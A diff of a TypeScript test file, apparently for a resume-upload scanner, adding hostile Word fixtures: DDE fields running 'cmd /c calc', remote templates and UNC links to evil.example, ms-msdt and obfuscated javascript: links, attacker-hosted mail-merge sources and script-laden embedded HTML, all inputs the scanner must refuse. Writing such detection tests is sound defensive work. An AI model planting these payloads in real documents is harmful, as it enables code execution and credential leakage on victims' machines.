@@ -3,7 +3,6 @@ import { Buffer } from 'node:buffer'
 import type { ResumeFinding } from '@lanternfield/contract/answer-copy.ts'
 import { compoundFile, doc, word2 } from './doc.ts'
 import { documentXml, docx, docxParts, relationship, relationships, workbook, zip } from './docx.ts'
-import { pdf } from './pdf.ts'
 import { aDoc, aDocx, type HostileResume, refused } from './resume-example.ts'
 
 const asDoc = refused(aDoc)
@@ -32,7 +31,12 @@ const instructions = [
   ['active', 'a program in quotes and small letters', ' "dde" cmd "/c calc" '],
   ['remote', 'a file on a share', ' INCLUDETEXT "\\\\\\\\evil.example\\\\x.doc" '],
   ['remote', 'a picture on a share', ' INCLUDEPICTURE "//evil/x.png" \\d '],
+  ['remote', 'a picture on a share, escaped', ' INCLUDEPICTURE "file:///%5C%5Cevil/x.png" '],
+  ['remote', 'a picture of another sort of server', ' INCLUDEPICTURE "ldap://evil.example/x" '],
   ['remote', 'a document of a server', ' LINK Word.Document.8 "https://evil.example/x.doc" '],
+  ['remote', 'a database on a share', ' DATABASE \\c "Data Source=\\\\evil\\x.mdb" '],
+  ['remote', 'a link to a share', ' HYPERLINK \\o "a hint" "\\\\evil.example\\x" '],
+  ['active', 'a link to a tool of Windows', ' HYPERLINK "ms-msdt:/id" \\t "_blank" '],
 ] as const
 const field = (instruction: string) => `\x13${instruction}\x14result\x15`
 const QUOTED = field(' QUOTE 68 68 69 65 85 84 79 ')
@@ -53,7 +57,6 @@ const docFields = [
 const docs = [
   asDoc('format', 'nothing but HTML', () => Buffer.from(HTML)),
   asDoc('format', 'nothing but RTF', () => Buffer.from('{\\rtf1{\\object\\objemb}}')),
-  asDoc('format', 'nothing but a DOCX', () => docx()),
   asDoc('format', 'nothing but a workbook', () => compoundFile({ '/Workbook': 'x'.repeat(5000) })),
   asDoc('format', 'an archive behind it', () => Buffer.concat([doc(), zip({ a: 'b' })])),
   asDoc('broken', 'only its first bytes', () => doc().subarray(0, 300)),
@@ -96,6 +99,13 @@ const docxFields = [
   ),
   withText('a field in UTF-16', inUtf16(simpleField('DDE cmd'))),
   withPart('active', 'a field in a part of another name', 'word/a.bin', simpleField('DDE cmd')),
+  withPart('active', 'a field in a part called a font', 'word/a.odttf', simpleField('DDE cmd')),
+  withPart(
+    'active',
+    'a field behind blanks',
+    'word/header1.dat',
+    `${' '.repeat(5000)}<w:hdr><w:fldSimple w:instr="DDE cmd"/></w:hdr>`,
+  ),
 ]
 
 const target = (finding: ResumeFinding, name: string, kind: string, to: string) =>
@@ -115,12 +125,19 @@ const references = [
     'file://evil/a/a.dotm',
     'file:///%5C%5C10.0.0.1/normal.dotm',
     'file:////10.0.0.1/Users/normal.dotm',
+    'FILE:\\\\evil.example\\normal.dotm',
+    'file://localhost//evil.example/normal.dotm',
+    '\\/evil.example/normal.dotm',
+    '\\\\?\\UNC\\evil.example\\normal.dotm',
+    'mk:@MSITStore:evil',
   ].map(template),
   target('remote', 'a picture on a share', 'image', '\\\\evil.example\\x'),
   target('remote', 'an object at an address', 'oleObject', 'mhtml:https://evil.example/x!x'),
-  asDocx('remote', 'a frame that does not say that it is elsewhere', {
-    relationships: relationship('frame', 'https://evil.example/'),
-  }),
+  ...['https://evil.example/', '\\\\evil.example\\x'].map((address) =>
+    asDocx('remote', `a frame that does not say that it is at ${address}`, {
+      relationships: relationship('frame', address),
+    }),
+  ),
   ...[
     'javascript:alert(1)',
     'ms-msdt:/id%20PCWDiagnostic',
@@ -128,7 +145,20 @@ const references = [
     'ms-word:ofe|u|https://evil.example/a.docm',
     'shell:startup',
     'search:query=a',
+    'java&#9;script:alert(1)',
+    'MS%2DMSDT:x',
+    'data:text/html,x',
+    'ldap://evil.example/x',
+    'onenote:https://evil.example',
+    'a-program-of-its-own:x',
   ].map((address) => target('active', `a link to ${address}`, 'hyperlink', address)),
+  ...[
+    '\\\\evil.example\\x',
+    '//evil.example/x',
+    'file:///\\\\evil.example\\x',
+    'file://10.0.0.1/x',
+    '%5C%5Cevil.example%5Cx',
+  ].map((address) => target('remote', `a link to ${address}`, 'hyperlink', address)),
   asDocx('embedded', 'HTML to be included', {
     relationships: relationship('aFChunk', 'chunk.html'),
     parts: { 'word/chunk.html': HTML },
@@ -146,10 +176,25 @@ const references = [
     '<w:mailMerge><w:udl w:val="Data Source=\\\\evil\\x.mdb"/></w:mailMerge>',
   ),
   withPart(
-    'active',
-    'a script in the page of a film',
-    'word/a.xml',
-    '<wp15:webVideoPr embeddedHtml="&lt;script&gt;alert(1)&lt;/script&gt;"/>',
+    'remote',
+    'the data of a mail merge at an address',
+    'word/settings.xml',
+    '<w:mailMerge><w:connectString w:val="Data Source=http://evil.example"/></w:mailMerge>',
+  ),
+  ...[
+    '<script>alert(1)</script>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe src="java&#115;cript:alert(1)"></iframe>',
+    '<iframe src="https://evil.example" onload="alert(1)">',
+    '<iframe src="https://evil.example"><script src="//evil.example"></script></iframe>',
+    '<object data="https://evil.example"></object>',
+  ].map((html) =>
+    withPart(
+      'active',
+      `a film of the page ${html}`,
+      'word/a.xml',
+      `<wp15:webVideoPr embeddedHtml="${html.replace(/[&<"]/g, (sign) => `&#${sign.charCodeAt(0)};`)}"/>`,
+    ),
   ),
 ]
 
@@ -171,12 +216,30 @@ const parts = [
     'word/embeddings/chart.xlsx',
     workbook({ 'xl/vbaProject.bin': 'x' }),
   ),
-  withPart(
-    'active',
-    'a program in the workbook of a chart',
-    'word/embeddings/chart.xlsx',
-    workbook({ 'xl/externalLinks/a.xml': '<a><ddeLink ddeService="cmd" ddeTopic="/c"/></a>' }),
+  ...[
+    '<a><ddeLink ddeService="cmd" ddeTopic="/c"/></a>',
+    '<a><oleLink progId="cmd"/></a>',
+    "<a><f>cmd|'/c calc'!A0</f></a>",
+    '<a><definedName>cmd&#124;"/c calc"!A0</definedName></a>',
+  ].map((xml) =>
+    withPart(
+      'active',
+      `a program in the workbook of a chart: ${xml}`,
+      'word/embeddings/chart.xlsx',
+      workbook({ 'xl/a.xml': xml }),
+    ),
   ),
+  withPart(
+    'macros',
+    'a sheet of macros in the workbook of a chart',
+    'word/embeddings/chart.xlsx',
+    workbook({ 'xl/_rels/a.rels': relationships(relationship('xlMacrosheet', 'a.xml')) }),
+  ),
+  asDocx('embedded', 'an object by its type', {
+    types:
+      '<Override PartName="/word/a" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
+    parts: { 'word/a': 'x' },
+  }),
   withPart('active', 'a control', 'word/activeX/activeX1.xml', '<x/>'),
   asDocx('active', 'a control by its relationship', {
     relationships: relationship('control', 'a.xml'),
@@ -215,8 +278,7 @@ function withPasswords(archive: Buffer): Buffer {
 
 const archives = [
   asDocx('format', 'nothing but HTML', () => Buffer.from(HTML)),
-  asDocx('format', 'nothing but a PDF', () => pdf()),
-  asDocx('format', 'nothing but a DOC', () => doc()),
+  asDocx('format', 'a PDF in its first bytes', () => zip({ '%PDF-1.4': '', ...docxParts() })),
   asDocx('format', 'files of any sort', () => zip({ 'mira.txt': 'x' })),
   asDocx('format', 'nothing but a workbook', () => workbook()),
   asDocx('format', 'the type of a template', { mainType: `${WORD}.template.main+xml` }),
